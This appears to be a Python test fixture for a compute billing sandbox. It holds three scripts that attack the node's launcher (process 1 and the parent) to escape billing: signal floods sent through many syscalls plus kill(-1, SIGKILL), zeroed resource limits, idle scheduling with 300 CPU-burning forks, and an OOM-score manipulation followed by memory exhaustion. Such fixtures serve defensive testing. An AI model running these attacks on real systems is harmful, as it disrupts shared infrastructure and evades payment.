"""Scripts that attack the launcher of their node so that their run is free. Every backend must bill them.

A script does not know its backend, so it attacks process 1 and the rank's parent: each may be the launcher or the
launcher's parent. A script goes on after a call that the sandbox refuses.
"""

HELPERS = """
    import ctypes, errno, fcntl, os, resource, signal, socket, sys, time
    libc = ctypes.CDLL(None, use_errno=True)
    # Numbers that Python does not name: of calls on x86-64, of a command of fcntl, and of one of ioctl.
    TKILL, TGKILL, SIGQUEUEINFO, TGSIGQUEUEINFO, PIDFD_SEND_SIGNAL, IOPRIO_SET = 200, 234, 129, 297, 424, 251
    F_SETSIG, FIOSETOWN = 10, 0x8901
    targets = sorted({1, os.getppid()})
    def attempt(action, *arguments):
        try: return action(*arguments)
        except OSError as error: return -1
    def limit(name):
        for pid in targets: attempt(resource.prlimit, pid, getattr(resource, "RLIMIT_" + name), (0, 0))
    def crowd(number):  # start processes that use the CPU until their parent has ended
        for _ in range(number):
            try: pid = os.fork()
            except OSError: break
            if not pid:
                while os.getppid() != 1: pass
                os._exit(0)
    def work(seconds):
        until = time.monotonic() + seconds
        while time.monotonic() < until: pass
        print("results are written", flush=True)
"""
"""The beginning of each attack."""
ATTACKS = {
    "every signal by every call, and limits of 0 for the launcher": """
    for pid in targets:
        for number in [*range(1, 32), 34, 50, 64]:  # the last three are real-time signals
            attempt(os.kill, pid, number)
    info = ctypes.create_string_buffer(128)
    ctypes.c_int.from_buffer(info, 0).value = signal.SIGINT
    ctypes.c_int.from_buffer(info, 8).value = -1  # SI_QUEUE: the kernel lets a process send such a siginfo
    for pid in targets:
        attempt(os.killpg, pid, signal.SIGINT)
        libc.syscall(TKILL, pid, int(signal.SIGINT))
        libc.syscall(TGKILL, pid, pid, int(signal.SIGINT))
        libc.syscall(SIGQUEUEINFO, pid, int(signal.SIGINT), info)
        libc.syscall(TGSIGQUEUEINFO, pid, pid, int(signal.SIGINT), info)
        for descriptor in (attempt(os.pidfd_open, pid), attempt(os.open, "/proc/%d" % pid, os.O_RDONLY)):
            libc.syscall(PIDFD_SEND_SIGNAL, descriptor, int(signal.SIGINT), 0, 0)
        for owner in (pid, -pid):  # the kernel signals the owner (-pid: its group) when data arrive
            reading, writing = os.pipe()
            attempt(fcntl.fcntl, reading, fcntl.F_SETOWN, owner)
            attempt(fcntl.fcntl, reading, F_SETSIG, int(signal.SIGINT))
            attempt(fcntl.fcntl, reading, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            os.write(writing, b"x")
            one, other = socket.socketpair()
            attempt(fcntl.ioctl, one, FIOSETOWN, owner.to_bytes(4, "little", signed=True))
            attempt(fcntl.fcntl, one, F_SETSIG, int(signal.SIGINT))
            attempt(fcntl.fcntl, one, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            other.send(b"x")
    for name in ("CPU", "NOFILE", "AS", "DATA", "STACK"): limit(name)
    print("attacked", flush=True)
    work(3)
    attempt(os.kill, -1, signal.SIGKILL)  # every other process that it may signal
    work(2)""",
    "the lowest priority for the launcher, among hundreds of processes": """
    for pid in targets:
        attempt(os.sched_setaffinity, pid, {min(os.sched_getaffinity(0))})
        attempt(os.sched_setscheduler, pid, os.SCHED_IDLE, os.sched_param(0))
        attempt(os.setpriority, os.PRIO_PROCESS, pid, 19)
        libc.syscall(IOPRIO_SET, 1, pid, 3 << 13)  # of a process (1): the class "idle" (3)
    attempt(os.setpriority, os.PRIO_USER, 0, 19)
    libc.syscall(IOPRIO_SET, 3, 0, 3 << 13)  # of all processes of the user (3)
    crowd(300)
    work(16)  # a launcher that is silent for 12 s loses its node
""",
    "the launcher as the first process that the kernel kills for memory": """
    for pid in targets:
        attempt(lambda: open("/proc/%d/oom_score_adj" % pid, "w").write("1000"))
    taken = []
    while True: taken.append(bytearray(b"x") * (8 << 20))""",
}
"""The scripts by name. Each ends with code 0, or by using up its memory, if nothing stops it."""
